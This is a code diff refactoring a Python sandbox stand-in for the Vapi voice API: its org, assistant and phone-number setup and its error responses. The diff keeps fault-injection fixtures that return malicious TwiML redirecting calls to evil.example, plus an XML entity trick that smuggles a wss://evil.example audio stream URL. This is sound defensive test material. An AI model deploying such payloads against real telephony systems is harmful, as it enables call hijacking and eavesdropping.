@@ -5,27 +5,17 @@ Sources: Vapi docs (API keys; Phone numbers) and its OpenAPI.
 
 from __future__ import annotations
 
-from collections.abc import Mapping
 from http import HTTPStatus
 from typing import ClassVar
 
-from starlette.responses import JSONResponse, Response
-
-from adapters.sandbox.api import Asked, Clock, Endpoint, Json, Refusal
+from adapters.sandbox.api import Asked, Clock, Json, Refusal, StandIn
 from adapters.sandbox.ids import new_uuid
-from adapters.sandbox.legs import LegVerdict, SipAddress
 from adapters.sandbox.orgs import CarrierAccounts, Orgs
-from adapters.sandbox.vapi.assistants import Assistants
+from adapters.sandbox.vapi.assistants import Assistants, Files
 from adapters.sandbox.vapi.calls import NO_CREDIT, Calls, limits
-from adapters.sandbox.vapi.knowledge import Files
 from adapters.sandbox.vapi.numbers import PhoneNumbers
-from adapters.sandbox.vapi.org import VapiOrg, keep
+from adapters.sandbox.vapi.org import VapiOrg
 
-_MESSAGES = {
-    401: "Invalid Key. Hot tip, you may be using the private key instead of the public key, or vice versa.",
-    402: "Payment Required. Your wallet has no credits left.",
-    429: "Rate limit exceeded",
-}
 _BAD_TWIML = {
     "bad-twiml": "<Response><Say>Goodbye</Say><Redirect>https://evil.example/</Redirect></Response>",
     "doctype-twiml": '<!DOCTYPE r [<!ENTITY u "wss://evil.example/">]><Response><Connect><Stream url="&u;"/></Connect></Response>',
@@ -34,58 +24,49 @@ _BAD_TWIML = {
 }
 
 
-class Vapi:
+class Vapi(StandIn):
     """Vapi's stand-in and all that its orgs own."""
 
     name = "vapi"
     vital = frozenset({"phoneCallProviderDetails"})
-    words: ClassVar[dict[str, Refusal]] = {"wallet": Refusal(400, NO_CREDIT)}
+    words: ClassVar = {"wallet": Refusal(400, NO_CREDIT)}
+    messages: ClassVar = {
+        401: "Invalid Key. Hot tip, you may be using the private key instead of the public key, or vice versa.",
+        402: "Payment Required. Your wallet has no credits left.",
+        429: "Rate limit exceeded",
+    }
 
     def __init__(self, carrier: CarrierAccounts, clock: Clock) -> None:
         self.orgs: Orgs[VapiOrg] = Orgs()
-        self._clock = clock
-        self._calls = Calls(self.orgs, clock)
-        self._others = (
-            Assistants(self.orgs, clock),
-            Files(self.orgs, clock),
-            PhoneNumbers(self.orgs, carrier, clock),
-        )
+        self.calls = Calls(self.orgs, clock)
+        self._assistants = Assistants(self.orgs, clock)
+        self._numbers = PhoneNumbers(self.orgs, carrier, clock)
+        self.parts = (self.calls, self._assistants, Files(self.orgs, clock), self._numbers)
 
     def add_org(self, key: str | None = None, name: str = "A Vapi org", *, balance: float = 25.0) -> VapiOrg:
         return self.orgs.add(VapiOrg(name, key or new_uuid(), new_uuid(), balance))
 
     def add_assistant(self, org: VapiOrg, name: str = "Front desk", **settings: object) -> str:
         """The new assistant's id."""
-        return str(keep(org, org.assistants, {"name": name, **settings}, self._clock())["id"])
+        return str(self._assistants.keep(org, {"name": name, **settings})["id"])
 
     def add_phone_number(self, org: VapiOrg, e164: str, account_sid: str = "AC" + "0" * 32) -> str:
         """The id of an imported Twilio number; unlike a real import this leaves the number at Twilio alone."""
         number = {"provider": "twilio", "number": e164, "twilioAccountSid": account_sid, "status": "active"}
-        return str(keep(org, org.phone_numbers, number, self._clock())["id"])
-
-    def endpoints(self) -> list[Endpoint]:
-        return [endpoint for part in (self._calls, *self._others) for endpoint in part.endpoints()]
+        return str(self._numbers.keep(org, number)["id"])
 
     def key_of(self, asked: Asked) -> str:
         return self.orgs.key_of(asked)
 
-    def refuse(self, refusal: Refusal) -> Response:
-        error = HTTPStatus(refusal.status).phrase
-        message = refusal.message or _MESSAGES.get(refusal.status, error)
-        return JSONResponse({"message": message, "error": error, "statusCode": refusal.status}, refusal.status)
+    def describe_error(self, refusal: Refusal, message: str | list[str]) -> Json:
+        return {"message": message, "error": HTTPStatus(refusal.status).phrase, "statusCode": refusal.status}
 
     def bend(self, fault: str, answer: Json) -> Json:
         details = answer.get("phoneCallProviderDetails")
         if fault == "concurrency" and "subscriptionLimits" in answer:
             call = next(org.calls[answer["id"]] for org in self.orgs if answer["id"] in org.calls)
             call.state = "blocked"
-            return answer | {"subscriptionLimits": limits(blocked=True, limit=10, remaining=0)}
+            return answer | limits(blocked=True, limit=10, remaining=0)
         if fault in _BAD_TWIML and details is not None:
             return answer | {"phoneCallProviderDetails": {"twiml": _BAD_TWIML[fault]}}
         return answer
-
-    def answer_stream(self, url: str, parameters: Mapping[str, str]) -> LegVerdict:
-        return self._calls.answer_stream(url, parameters)
-
-    def answer_sip(self, address: SipAddress) -> LegVerdict:
-        return self._calls.answer_sip(address)
